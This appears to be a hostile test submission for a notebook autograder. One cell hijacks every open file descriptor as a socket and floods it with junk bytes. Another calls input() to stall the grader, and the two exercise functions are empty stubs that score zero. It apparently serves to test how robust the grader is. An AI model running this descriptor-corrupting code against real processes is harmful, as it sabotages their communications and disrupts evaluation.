# Writes noise into every open descriptor, takes the kernel's sockets, and asks for input.
# deserves: 0 + 0

# %%
import os
import socket

for number in range(3, 256):
    try:
        taken = socket.socket(fileno=os.dup(number))
        taken.settimeout(0.1)
        taken.send(b"hostile-was-here")
    except OSError:
        pass
    try:
        os.write(number, b"\0\xff" * 100)
    except OSError:
        pass

# %%
input("score: ")

# %% gap="scale_pixels"
def scale_pixels(images):
    return images


# %% gap="add_channel_axis"
def add_channel_axis(images):
    return images
